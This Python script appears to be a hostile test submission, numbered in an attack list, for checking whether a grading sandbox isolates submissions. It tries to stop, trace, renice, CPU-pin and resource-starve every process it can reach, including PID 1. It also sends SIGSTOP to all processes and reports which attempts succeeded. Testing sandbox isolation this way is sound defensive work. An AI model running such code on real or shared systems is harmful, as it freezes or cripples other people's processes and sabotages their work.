"""attacks.md #30 - change the process that starts later submissions: lower the limits of, renice, pin, stop or
trace every process it can name (its parent, PID 1, everything in /proc, every process of its user), so that the
honest submissions graded after it in the same worker would fail or crawl. Prints `SABOTEUR {json}`: what each
attempt did, per target.
"""

# uses _kernel.py

import json
import os
import resource
import signal

me = os.getpid()
targets = sorted({1, os.getppid(), *(int(p) for p in os.listdir("/proc") if p.isdigit())} - {me, 0})
report = {}


def _try(call):
    try:
        call()
        return "ok"
    except OSError as exc:
        return type(exc).__name__


for pid in targets:
    report[pid] = {
        "nofile": _try(lambda pid=pid: resource.prlimit(pid, resource.RLIMIT_NOFILE, (8, 8))),
        "address_space": _try(lambda pid=pid: resource.prlimit(pid, resource.RLIMIT_AS, (1 << 24, 1 << 24))),
        "nproc": _try(lambda pid=pid: resource.prlimit(pid, resource.RLIMIT_NPROC, (1, 1))),
        "nice": _try(lambda pid=pid: os.setpriority(os.PRIO_PROCESS, pid, 19)),
        "affinity": _try(lambda pid=pid: os.sched_setaffinity(pid, {min(os.sched_getaffinity(0))})),
        "stop": _try(lambda pid=pid: os.kill(pid, signal.SIGSTOP)),
        "ptrace": ptrace_attach(pid),  # noqa: F821 - from _kernel.py
    }
report["user"] = _try(lambda: os.setpriority(os.PRIO_USER, os.getuid(), 19))
report["everyone"] = _try(lambda: os.kill(-1, signal.SIGSTOP))  # every process it may signal but itself
print("SABOTEUR " + json.dumps(report), flush=True)
